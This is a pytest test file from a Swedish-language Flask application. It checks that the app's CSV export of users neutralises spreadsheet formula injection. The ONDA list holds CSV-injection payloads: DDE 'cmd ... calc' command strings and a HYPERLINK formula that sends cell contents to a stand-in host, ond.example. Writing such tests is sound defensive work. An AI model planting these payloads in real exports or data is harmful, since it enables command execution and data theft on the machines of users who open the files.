"""Formulas in what is fetched for a spreadsheet: whatever somebody is called, no cell is run."""

import csv
import io
from collections.abc import Callable

import pytest
from flask.testing import FlaskClient
from sqlalchemy import select

from tests import factories as f
from tests.funktioner_stod import en_funktion, medlem
from wis.auth.models import Anvandare, Funktion
from wis.auth.rules import Roll
from wis.db import Database
from wis.tx import transaction

LoggaIn = Callable[[str], FlaskClient]
ANNA = "anna@nacka.example"
KORS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")
"""What begins a formula in some spreadsheet (OWASP, CSV Injection)."""
ONDA = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://ond.example?x="&A1;"Klicka")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '";=1+1;"',
    "x;=1+1",
    'x"\r\n=1+1;y',
    "=1+1\r\n=2+2",
    "|=1",
]


@pytest.fixture(autouse=True)
def folk(database: Database) -> None:
    with transaction(database) as session:
        f.en_person_hos(session, "nacka", Roll.REDAKTOR, epost=ANNA, administrator=True)
        f.en_person_hos(session, "nacka", Roll.LASARE, epost="vera@nacka.example")
        en_funktion(session, "nacka", "TiB", medlem(session, "vera@nacka.example"))


@pytest.mark.parametrize("ond", ONDA)
def test_no_cell_of_the_table_of_people_is_a_formula(logga_in: LoggaIn, database: Database, ond: str) -> None:
    with transaction(database) as session:
        vera = session.scalars(select(Anvandare).where(Anvandare.epost == "vera@nacka.example")).one()
        vera.namn, vera.epost = ond, f"{ond.lower()}@nacka.example"
        session.scalars(select(Funktion)).one().kortnamn = ond
    svar = logga_in(ANNA).get("/aktorer/nacka/anvandare.csv")
    assert svar.status_code == 200
    assert svar.headers["Content-Disposition"].startswith("attachment;")
    rader = list(csv.reader(io.StringIO(svar.get_data(as_text=True)[1:], newline=""), delimiter=";"))
    assert {len(rad) for rad in rader} == {12}
    # The heading, Anna, Vera: the function is no row of its own, and no break makes one.
    assert len(rader) == 3
    celler = [cell for rad in rader for cell in rad]
    assert not [cell for cell in celler if cell.startswith(KORS)]
    assert any(ond in cell for cell in celler)
